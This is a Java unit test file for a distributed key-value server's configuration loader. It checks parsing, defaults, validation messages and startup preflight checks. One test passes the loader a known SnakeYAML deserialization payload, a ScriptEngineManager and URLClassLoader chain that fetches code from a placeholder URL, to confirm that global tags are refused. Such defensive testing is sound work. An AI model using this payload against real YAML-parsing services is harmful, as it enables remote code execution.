package io.kvkit.server.config;

import io.kvkit.server.config.NodeConfig.Member;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class NodeConfigLoaderTest {

    @TempDir
    Path dir;

    private static final String CLUSTER = """
            initial-cluster:
              - {id: 1, host: 10.0.0.11, raft-port: 7001, client-port: 7101, admin-port: 7201, resp-port: 6379}
              - {id: 2, host: 10.0.0.12, raft-port: 7001, client-port: 7101}
              - {id: 3, host: 10.0.0.13, raft-port: 7001, client-port: 7101}
            """;

    private Path yaml(String text) throws IOException {
        Path f = dir.resolve("node.yaml");
        Files.writeString(f, text);
        return f;
    }

    private NodeConfig load(String text) throws IOException {
        return NodeConfigLoader.load(yaml(text), Map.of());
    }

    private ConfigException error(String text) {
        return error(text, Map.of());
    }

    private ConfigException error(String text, Map<String, String> flags) {
        try {
            NodeConfigLoader.load(yaml(text), flags);
        } catch (ConfigException e) {
            return e;
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        throw new AssertionError("no ConfigException for:\n" + text + "\nflags " + flags);
    }

    @Test
    void everyKeyFromYamlAndBackThroughTheWriter() throws IOException {
        NodeConfig c = load("""
                node-id: 2
                data-dir: /var/lib/kvkit
                listen-host: 0.0.0.0
                """ + CLUSTER + """
                partitions: 256
                replication-factor: 3
                meta-replicas: 3
                default-engine: bplustree
                default-engine-options: {}
                tick-interval: 100ms
                election-ticks: 20
                sync-writes: false
                lease-reads: false
                raft-worker-threads: 3
                snapshot-every-entries: 50_000
                request-timeout: 2s
                max-key-bytes: 1KiB
                max-value-bytes: 1MiB
                max-in-flight-per-connection: 64
                client-io-threads: 4
                """);
        assertThat(c.nodeId()).isEqualTo(2);
        assertThat(c.dataDir()).isEqualTo(Path.of("/var/lib/kvkit"));
        assertThat(c.listenHost()).isEqualTo("0.0.0.0");
        assertThat(c.initialCluster()).containsExactly(new Member(1, "10.0.0.11", 7001, 7101, 7201, 6379),
                new Member(2, "10.0.0.12", 7001, 7101, 0, 0), new Member(3, "10.0.0.13", 7001, 7101, 0, 0));
        assertThat(c.self()).isEqualTo(new Member(2, "10.0.0.12", 7001, 7101, 0, 0));
        assertThat(c.partitions()).isEqualTo(256);
        assertThat(c.replicationFactor()).isEqualTo(3);
        assertThat(c.metaReplicas()).isEqualTo(3);
        assertThat(c.defaultEngine()).isEqualTo("bplustree");
        assertThat(c.tickInterval()).isEqualTo(Duration.ofMillis(100));
        assertThat(c.electionTicks()).isEqualTo(20);
        assertThat(c.syncWrites()).isFalse();
        assertThat(c.leaseReads()).isFalse();
        assertThat(c.raftWorkerThreads()).isEqualTo(3);
        assertThat(c.snapshotEveryEntries()).isEqualTo(50_000);
        assertThat(c.requestTimeout()).isEqualTo(Duration.ofSeconds(2));
        assertThat(c.maxKeyBytes()).isEqualTo(1024);
        assertThat(c.maxValueBytes()).isEqualTo(1 << 20);
        assertThat(c.maxInFlightPerConnection()).isEqualTo(64);
        assertThat(c.clientIoThreads()).isEqualTo(4);

        // the writer's file loads to the same config
        assertThat(load(NodeConfigWriter.toYaml(c))).isEqualTo(c);
    }

    @Test
    void engineOptionsAndAwkwardStringsSurviveTheWriter() throws IOException {
        NodeConfig c = load("""
                node-id: 1
                data-dir: "/data/with \\"quotes\\" and \\\\ and: colon"
                """ + CLUSTER + """
                default-engine: lsm
                default-engine-options:
                  writeBufferSizeBytes: 8MiB
                  compression: none
                tick-interval: 1500us
                """);
        assertThat(c.dataDir().toString()).isEqualTo("/data/with \"quotes\" and \\ and: colon");
        assertThat(c.defaultEngineOptions()).containsEntry("writeBufferSizeBytes", "8MiB").containsEntry("compression", "none");
        assertThat(c.tickInterval()).isEqualTo(Duration.ofNanos(1_500_000));
        assertThat(load(NodeConfigWriter.toYaml(c))).isEqualTo(c);
    }

    @Test
    void defaultsAreNodeConfigsJavadoc() throws IOException {
        NodeConfig c = load("node-id: 3\ndata-dir: d\n" + CLUSTER);
        assertThat(c.listenHost()).isEqualTo("10.0.0.13");      // its own member host
        assertThat(c.partitions()).isEqualTo(64);
        assertThat(c.replicationFactor()).isEqualTo(3);
        assertThat(c.metaReplicas()).isEqualTo(3);
        assertThat(c.defaultEngine()).isEqualTo("lsm");
        assertThat(c.defaultEngineOptions()).isEmpty();
        assertThat(c.tickInterval()).isEqualTo(Duration.ofMillis(50));
        assertThat(c.electionTicks()).isEqualTo(10);
        assertThat(c.syncWrites()).isTrue();
        assertThat(c.leaseReads()).isTrue();
        assertThat(c.raftWorkerThreads()).isEqualTo(Runtime.getRuntime().availableProcessors());
        assertThat(c.snapshotEveryEntries()).isEqualTo(100_000);
        assertThat(c.requestTimeout()).isEqualTo(Duration.ofSeconds(5));
        assertThat(c.maxKeyBytes()).isEqualTo(16 * 1024);
        assertThat(c.maxValueBytes()).isEqualTo(4 * 1024 * 1024);
        assertThat(c.maxInFlightPerConnection()).isEqualTo(1024);
        assertThat(c.clientIoThreads()).isEqualTo(2);
    }

    @Test
    void flagsOverrideTheFileKeyByKey() throws IOException {
        Map<String, String> flags = new LinkedHashMap<>();
        flags.put("partitions", "16");
        flags.put("sync-writes", "false");
        flags.put("initial-cluster", "1=127.0.0.1:7001:7101,2=127.0.0.1:7002:7102:7202:6380,3=127.0.0.1:7003:7103");
        flags.put("default-engine-options", "");
        NodeConfig c = NodeConfigLoader.load(yaml("""
                node-id: 2
                data-dir: /d
                partitions: 128
                tick-interval: 20ms
                default-engine-options: {compression: none}
                """ + CLUSTER), flags);
        assertThat(c.partitions()).isEqualTo(16);
        assertThat(c.syncWrites()).isFalse();
        assertThat(c.tickInterval()).isEqualTo(Duration.ofMillis(20));   // not overridden: the file's
        assertThat(c.defaultEngineOptions()).isEmpty();                  // an empty flag clears the file's map
        assertThat(c.initialCluster()).hasSize(3);
        assertThat(c.self()).isEqualTo(new Member(2, "127.0.0.1", 7002, 7102, 7202, 6380));
        assertThat(c.listenHost()).isEqualTo("127.0.0.1");
    }

    @Test
    void flagsAloneMakeAConfigAndIpv6HostsGoInBrackets() {
        NodeConfig c = NodeConfigLoader.load(null, Map.of("node-id", "1", "data-dir", "/d",
                "initial-cluster", "1=[::1]:7001:7101,2=[::1]:7002:7102,3=[::1]:7003:7103"));
        assertThat(c.self()).isEqualTo(new Member(1, "::1", 7001, 7101, 0, 0));
        assertThat(InitialCluster.toText(c.initialCluster())).isEqualTo("1=[::1]:7001:7101,2=[::1]:7002:7102,3=[::1]:7003:7103");
    }

    @Test
    void aOneNodeClusterIsConfigurable() throws IOException {
        NodeConfig c = load("""
                node-id: 1
                data-dir: /d
                initial-cluster: 1=127.0.0.1:0:0
                replication-factor: 1
                meta-replicas: 1
                """);
        assertThat(c.initialCluster()).containsExactly(new Member(1, "127.0.0.1", 0, 0, 0, 0));
        assertThat(c.replicationFactor()).isEqualTo(1);
        assertThat(c.metaReplicas()).isEqualTo(1);
        // the defaults (3) do not fit one member: the error says what to set
        ConfigException e = error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=127.0.0.1:7001:7101\n");
        assertThat(e.key()).isEqualTo("replication-factor");
        assertThat(e.getMessage()).contains("default of replication-factor", "= 3 is more than the 1 member(s)", "allowed: 1..1");
    }

    @Test
    void aJoiningNodeListsOnlyItselfAndSurvivesTheWriter() throws IOException {
        NodeConfig c = load("""
                node-id: 4
                data-dir: /d
                initial-cluster: 4=127.0.0.1:7004:7104:7204
                join: 127.0.0.1:7101
                max-concurrent-moves: 3
                """);
        assertThat(c.joins()).isTrue();
        assertThat(c.join()).isEqualTo("127.0.0.1:7101");
        assertThat(c.maxConcurrentMoves()).isEqualTo(3);
        assertThat(c.replicationFactor()).as("taken from the cluster; the default is not checked against one member").isEqualTo(3);
        assertThat(load(NodeConfigWriter.toYaml(c))).isEqualTo(c);
        assertThat(load("node-id: 3\ndata-dir: d\n" + CLUSTER).joins()).isFalse();
        ConfigException bad = error("node-id: 4\ndata-dir: /d\ninitial-cluster: 4=127.0.0.1:7004:7104\njoin: somewhere\n");
        assertThat(bad.key()).isEqualTo("join");
        assertThat(bad.getMessage()).contains("'somewhere' is not host:port", "port 1..65535");
        ConfigException moves = error("node-id: 3\ndata-dir: d\n" + CLUSTER + "max-concurrent-moves: 0\n");
        assertThat(moves.key()).isEqualTo("max-concurrent-moves");
    }

    // ---- errors: each names the key, the value, where, and what is allowed ----------------------

    @Test
    void unknownKeySuggestsTheNearestAndListsTheKnownOnes() {
        ConfigException e = error("node-id: 1\nreplication_factor: 3\n");
        assertThat(e.key()).isEqualTo("replication_factor");
        assertThat(e.getMessage()).contains("node.yaml line 2", "unknown key 'replication_factor'", "did you mean 'replication-factor'?",
                "known keys: node-id, data-dir", "client-io-threads");
        ConfigException camel = error("nodeId: 1\n");
        assertThat(camel.getMessage()).contains("did you mean 'node-id'?");
        ConfigException far = error("colour: blue\n");
        assertThat(far.getMessage()).contains("unknown key 'colour'").doesNotContain("did you mean");
        ConfigException flag = error("node-id: 1\n", Map.of("partition", "8"));
        assertThat(flag.getMessage()).contains("flag --partition", "did you mean 'partitions'?");
    }

    @Test
    void wrongTypes() {
        String base = "node-id: 1\ndata-dir: /d\n" + CLUSTER;
        assertThat(error(base + "partitions: [1, 2]\n").getMessage())
                .contains("line 7", "partitions must be a single value, got a list", "allowed: an integer in 1..1048576");
        assertThat(error(base + "election-ticks: ten\n").getMessage())
                .contains("election-ticks = 'ten' is not an integer", "allowed: an integer in 3..1000");
        assertThat(error(base + "sync-writes: yes\n").getMessage())
                .contains("sync-writes = 'yes' is not a boolean", "allowed: true or false");
        assertThat(error(base + "tick-interval: 50\n").getMessage())
                .contains("tick-interval = '50' is not a duration", "a duration with a unit (ns, us, ms, s, m, h)");
        assertThat(error(base + "max-key-bytes: 16KB\n").getMessage())
                .contains("max-key-bytes = '16KB' is not a byte count", "optionally with a unit B, KiB, MiB, GiB");
        assertThat(error(base + "default-engine-options: [a]\n").getMessage())
                .contains("default-engine-options must be a map, got a list");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: {id: 1}\n").getMessage())
                .contains("initial-cluster must be a list of members, got a map", "allowed: ID=HOST:RAFT_PORT:CLIENT_PORT");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster:\n  - {id: 1, host: h, raft-port: 1, client-port: 2, zone: a}\n")
                .getMessage()).contains("line 4", "unknown field 'zone'", "allowed: id, host, raft-port");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster:\n  - {id: 1, host: h, raft-port: 1}\n").getMessage())
                .contains("missing 'client-port'");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=h:7001\n").getMessage())
                .contains("member '1=h:7001' has 1 port(s)", "2 to 4 ports");
        assertThat(error("- a\n- b\n").getMessage()).contains("the file must be a map of settings");
    }

    @Test
    void outOfRange() {
        String base = "node-id: 1\ndata-dir: /d\n" + CLUSTER;
        assertThat(error(base + "election-ticks: 2\n").getMessage()).contains("election-ticks = 2 is out of range", "allowed: an integer in 3..1000");
        assertThat(error(base + "tick-interval: 20s\n").getMessage()).contains("tick-interval = '20s' is out of range", "in 1ms..10s");
        assertThat(error(base + "max-value-bytes: 65MiB\n").getMessage())
                .contains("max-value-bytes = '65MiB' (68157440 bytes) is out of range", "1..67108864 (1B..64MiB)");
        assertThat(error(base + "max-key-bytes: 64KiB\n").getMessage()).contains("max-key-bytes", "out of range", "1..65535");
        assertThat(error(base + "client-io-threads: 0\n").getMessage()).contains("client-io-threads = 0 is out of range");
        assertThat(error("node-id: 0\ndata-dir: /d\n" + CLUSTER).getMessage()).contains("node-id = 0 is out of range");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=h:7001:70000\n").getMessage())
                .contains("client port 70000 is out of range", "ports 0..65535");
        assertThat(error(base + "default-engine-options: {writeBufferSizeBytes: 1}\n").getMessage())
                .contains("default-engine-options", "writeBufferSizeBytes", "out of range");
    }

    @Test
    void nodeIdMustBeAMember() {
        ConfigException e = error("node-id: 4\ndata-dir: /d\n" + CLUSTER);
        assertThat(e.key()).isEqualTo("node-id");
        assertThat(e.getMessage()).contains("node.yaml line 1: node-id = 4 is not a member of initial-cluster (",
                "node.yaml line 4), which lists ids 1, 2, 3", "allowed: one of 1, 2, 3");
    }

    @Test
    void duplicatesInTheInitialCluster() {
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=a:7001:7101,1=b:7001:7101\n").getMessage())
                .contains("lists id 1 twice", "allowed: each id once");
        ConfigException samePort = error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=h:7001:7101,2=h:7101:7102\n");
        assertThat(samePort.key()).isEqualTo("initial-cluster");
        assertThat(samePort.getMessage()).contains("uses h:7101 twice (member 1 client-port and member 2 raft-port)",
                "allowed: every raft, client, admin and resp port of a host distinct");
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=h:7001:7001\n").getMessage())
                .contains("uses h:7001 twice (member 1 raft-port and member 1 client-port)");
        // the same ports on different hosts are fine (the three-machine layout)
        assertThat(NodeConfigLoader.load(null, Map.of("node-id", "1", "data-dir", "/d",
                "initial-cluster", "1=a:7001:7101,2=b:7001:7101,3=c:7001:7101")).initialCluster()).hasSize(3);
        assertThat(error("node-id: 1\ndata-dir: /d\ninitial-cluster: 1=a:0:7101,2=b:7001:7101\n").getMessage())
                .contains("0, an ephemeral port, only in a one-member cluster");
    }

    @Test
    void replicationFactorAndMetaReplicasAgainstTheMembers() {
        String base = "node-id: 1\ndata-dir: /d\n" + CLUSTER;
        ConfigException r = error(base + "replication-factor: 5\n");
        assertThat(r.key()).isEqualTo("replication-factor");
        assertThat(r.getMessage()).contains("node.yaml line 7: replication-factor = 5 is more than the 3 member(s) of initial-cluster",
                "allowed: 1..3");
        ConfigException even = error(base + "meta-replicas: 2\n");
        assertThat(even.key()).isEqualTo("meta-replicas");
        assertThat(even.getMessage()).contains("meta-replicas = 2 is even", "allowed: an odd number in 1..3");
        assertThat(error(base + "meta-replicas: 5\n").getMessage())
                .contains("meta-replicas = 5 is more than the 3 member(s)", "allowed: an odd number in 1..3");
    }

    @Test
    void partitionsMustBeAPowerOfTwo() {
        ConfigException e = error("node-id: 1\ndata-dir: /d\n" + CLUSTER + "partitions: 100\n");
        assertThat(e.key()).isEqualTo("partitions");
        assertThat(e.getMessage()).contains("partitions = 100 is not a power of two", "allowed: a power of two in 1..1048576 (e.g. 64 or 128)");
    }

    @Test
    void engineMustBeOnTheClassPath() {
        assertThat(error("node-id: 1\ndata-dir: /d\n" + CLUSTER + "default-engine: rocksdb\n").getMessage())
                .contains("default-engine = 'rocksdb' is not an engine on the class path", "allowed:", "bplustree", "hash", "lsm");
    }

    @Test
    void yamlSyntaxErrorsNameTheLine() {
        ConfigException e = error("node-id: 1\ndata-dir: [unclosed\npartitions: 8\n");
        assertThat(e.key()).isNull();
        assertThat(e.getMessage()).contains("node.yaml line", "YAML syntax error");
        ConfigException tab = error("node-id: 1\n\tdata-dir: /d\n");
        assertThat(tab.getMessage()).contains("node.yaml line 2", "YAML syntax error");
        ConfigException twice = error("node-id: 1\npartitions: 8\npartitions: 16\n");
        assertThat(twice.getMessage()).contains("node.yaml line 3: partitions is set twice (also on line 2)");
    }

    @Test
    void requiredKeysAndAMissingFile() {
        assertThat(error("data-dir: /d\n" + CLUSTER).getMessage()).contains("node-id is not set (in the config file or as --node-id)");
        assertThat(error("node-id: 1\n" + CLUSTER).getMessage()).contains("data-dir is not set");
        assertThat(error("node-id: 1\ndata-dir: /d\n").getMessage()).contains("initial-cluster is not set");
        assertThatThrownBy(() -> NodeConfigLoader.load(dir.resolve("nope.yaml"), Map.of()))
                .isInstanceOf(ConfigException.class).hasMessageContaining("nope.yaml does not exist");
    }

    @Test
    void noTypeIsEverConstructedFromTheFile() {
        // the file is only composed into nodes, and snakeyaml refuses global tags while composing
        ConfigException e = error("node-id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertThat(e.getMessage()).contains("node.yaml line 1", "Global tag is not allowed");
        // a local tag composes, but the value is still only text to the loader
        assertThat(error("node-id: !thing [1]\n").getMessage()).contains("node-id must be a single value, got a list");
    }

    // ---- preflight ------------------------------------------------------------------------------

    private NodeConfig local(Path dataDir, int raftPort, int clientPort) {
        return NodeConfigLoader.load(null, Map.of("node-id", "1", "data-dir", dataDir.toString(),
                "initial-cluster", "1=127.0.0.1:" + raftPort + ":" + clientPort, "replication-factor", "1", "meta-replicas", "1"));
    }

    private static int freePort() throws IOException {
        try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            return s.getLocalPort();
        }
    }

    @Test
    void preflightCreatesTheDataDirAndPassesOnFreePorts() throws IOException {
        Path data = dir.resolve("a/b/data");
        NodeConfigLoader.checkLocalResources(local(data, freePort(), freePort()));
        assertThat(data).isDirectory();
        try (var files = Files.list(data)) {
            assertThat(files).isEmpty();   // the write probe is gone
        }
    }

    @Test
    void preflightNamesAPortInUse() throws IOException {
        try (ServerSocket taken = new ServerSocket()) {
            taken.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            int port = taken.getLocalPort();
            assertThatThrownBy(() -> NodeConfigLoader.checkLocalResources(local(dir.resolve("d"), freePort(), port)))
                    .isInstanceOf(ConfigException.class)
                    .hasMessageContaining("client-port " + port + " of node 1 on 127.0.0.1 is in use");
            assertThatThrownBy(() -> NodeConfigLoader.checkLocalResources(local(dir.resolve("d"), port, freePort())))
                    .isInstanceOf(ConfigException.class)
                    .hasMessageContaining("raft-port " + port + " of node 1 on 127.0.0.1 is in use");
        }
    }

    @Test
    void preflightNamesADataDirThatCannotBeCreated() throws IOException {
        Path file = Files.writeString(dir.resolve("plain-file"), "x");
        Path under = file.resolve("data");
        ConfigException e = (ConfigException) org.assertj.core.api.Assertions.catchThrowable(
                () -> NodeConfigLoader.checkLocalResources(local(under, freePort(), freePort())));
        assertThat(e).isNotNull();
        assertThat(e.key()).isEqualTo("data-dir");
        assertThat(e.getMessage()).contains("data-dir " + under + " cannot be created", "Not a directory");
        ConfigException notDir = (ConfigException) org.assertj.core.api.Assertions.catchThrowable(
                () -> NodeConfigLoader.checkLocalResources(local(file, freePort(), freePort())));
        assertThat(notDir.getMessage()).contains("data-dir " + file + " exists and is not a directory");
    }

    @Test
    void preflightNamesAnUnresolvableListenHost() {
        NodeConfig c = NodeConfigLoader.load(null, Map.of("node-id", "1", "data-dir", dir.resolve("d").toString(),
                "initial-cluster", "1=127.0.0.1:7001:7101", "replication-factor", "1", "meta-replicas", "1",
                "listen-host", "no-such-host.invalid"));
        assertThatThrownBy(() -> NodeConfigLoader.checkLocalResources(c)).isInstanceOf(ConfigException.class)
                .hasMessageContaining("listen-host 'no-such-host.invalid' cannot be resolved");
    }

    @Test
    void everyKeyHasAFlagDescriptionAndNodeConfigComponent() {
        // one key per NodeConfig component (except the record's own helpers): the file, the flags and the record stay in step
        List<String> components = java.util.Arrays.stream(NodeConfig.class.getRecordComponents()).map(c -> c.getName()).toList();
        assertThat(ConfigKey.values()).hasSize(components.size());
        for (ConfigKey k : ConfigKey.values()) {
            String camel = java.util.regex.Pattern.compile("-([a-z])").matcher(k.key()).replaceAll(m -> m.group(1).toUpperCase());
            assertThat(components).contains(camel);
        }
        assertThat(ConfigKey.editDistance("partitons", "partitions")).isEqualTo(1);
    }
}
